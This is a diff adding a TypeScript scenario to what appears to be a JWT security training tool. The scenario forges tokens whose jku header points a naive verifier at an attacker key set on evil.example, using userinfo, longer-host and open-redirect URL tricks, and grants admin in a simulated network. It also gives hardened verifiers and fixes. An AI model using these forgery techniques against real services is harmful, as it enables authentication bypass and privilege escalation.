@@ -1,0 +1,117 @@
+import { CLAUSES } from "../clauses.ts";
+import { FIXES } from "../fixes.ts";
+import { benchOf } from "../free/bench.ts";
+import { HARDENED_KEY_SET, type HasKeySet } from "../hardened/index.ts";
+import { ADMIN, cast, dateOf, PRIVATE, PUBLIC } from "../house.ts";
+import { verify } from "../naive/jku-any.ts";
+import { verify as verifyPrefix } from "../naive/jku-prefix.ts";
+import { jwksOf, pairSetup } from "../setups.ts";
+import { readCompact } from "../toolkit/compact.ts";
+import type { KeyPair } from "../toolkit/key-shop.ts";
+import { withPrivateKey } from "../toolkit/signers.ts";
+import { MAKE_ADMIN, tell } from "../toolkit/storyboard.ts";
+import { defineScenario, type Held, type Verifier } from "../types.ts";
+import { createNetwork, type Network, REDIRECTOR } from "../world/network.ts";
+
+interface NetworkSetup extends HasKeySet {
+  readonly own: KeyPair;
+  readonly network: Network;
+}
+
+const OWN: Held = { name: "own key pair", kind: "private" };
+const URLS: Readonly<Record<string, string>> = {
+  any: "https://evil.example/jwks.json",
+  userinfo: "https://id.example@evil.example/jwks.json",
+  prefix: "https://id.example.evil.example/jwks.json",
+  redirect: "https://id.example/go?to=https://evil.example/jwks.json",
+};
+
+const prefix: Verifier<NetworkSetup> = {
+  file: "naive/jku-prefix.ts",
+  summary: "compares the beginning of the address",
+  verify: (setup, token) => verifyPrefix(token, setup.network, dateOf(setup)),
+  trace: (_, token) => [["keys it used", String(readCompact(token).header["jku"])]],
+};
+
+export default defineScenario<NetworkSetup>({
+  id: "jku-spoofing",
+  number: 13,
+  family: "key",
+  title: "Key from any address: jku",
+  summary: "The token says where its keys are, and the service goes and fetches them.",
+  cve: [],
+  literature: ["PortSwigger Web Security Academy, JWT lab 5", "RFC 7515, section 4.1.2", "RFC 8725, section 2.9"],
+  needs: "an own key pair and a web server",
+  situation:
+    "The header's jku is the address of a JWK Set. One verifier fetches it from anywhere. Another one first looks whether it begins like the issuer's, which is a look at a text, and not at a host.",
+  actors: cast([PRIVATE], [PUBLIC], [OWN], { attacker: "has a web server" }),
+  breaks: "signature",
+  reality: "sim",
+  keyKind: "rs256",
+  variants: [
+    { id: "any", label: "any address", note: "no check at all" },
+    { id: "userinfo", label: "user information", note: "what stands before @ is not the host" },
+    { id: "prefix", label: "longer host name", note: "id.example.evil.example belongs to evil.example" },
+    { id: "redirect", label: "open redirect", note: "the issuer's own site sends on to anywhere" },
+  ],
+  workbench: "not-verified",
+  rule: "HDR-07",
+  loosened: { keyUrl: "prefix" },
+  loosenedFor: { any: { keyUrl: "any" } },
+  naive: {
+    file: "naive/jku-any.ts",
+    summary: "fetches from anywhere",
+    verify: (setup, token) => verify(token, setup.network, dateOf(setup)),
+    trace: (_, token) => [["keys it used", String(readCompact(token).header["jku"])]],
+  },
+  naiveFor: { userinfo: prefix, prefix, redirect: prefix },
+  hardened: HARDENED_KEY_SET,
+  consequence: "Mallory is admin now, and the service sent a request where she wanted.",
+  lesson: "Know your issuers' addresses beforehand. A token does not get to name one.",
+  clause: CLAUSES.received,
+  fixes: FIXES.ownKey,
+  question: {
+    text: "Which host does https://id.example@evil.example/ name?",
+    answers: ["id.example", "evil.example", "Both"],
+    right: 1,
+    why: "What stands before @ is user information (RFC 3986, section 3.2.1). Compare whole addresses with a list, or parsed parts; never beginnings.",
+  },
+  setup: async (environment, variant) => {
+    const base = await pairSetup(environment, variant);
+    const own = await environment.keys.rsa("mallory");
+    const set = jwksOf(base.pair);
+    const network = createNetwork({
+      "https://id.example/jwks.json": set,
+      "https://id.example/go": REDIRECTOR,
+      "https://evil.example/jwks.json": jwksOf(own),
+      "https://id.example.evil.example/jwks.json": jwksOf(own),
+    });
+    return {
+      ...base,
+      own,
+      network,
+      keySet: JSON.parse(set),
+      world: [network],
+      bench: benchOf(base.pair, base.now, { network }),
+    };
+  },
+  forge: (setup, { claims }) => {
+    const honest = readCompact(setup.honest);
+    const jku = URLS[setup.variant] ?? "https://evil.example/jwks.json";
+    return tell({
+      honest: setup.honest,
+      header: {
+        title: "Name an own key set",
+        text: `jku: ${jku}. The set behind it has a key of the issuer's kid, and it is Mallory's.`,
+        value: { ...honest.header, jku },
+        exhibit: { label: "What the address answers", text: jwksOf(setup.own) },
+      },
+      payload: { ...MAKE_ADMIN, value: { ...honest.claims, ...ADMIN, ...claims } },
+      signature: {
+        title: "Sign with the own key",
+        text: "RS256, with the private half.",
+        value: withPrivateKey(setup.own),
+      },
+    });
+  },
+});
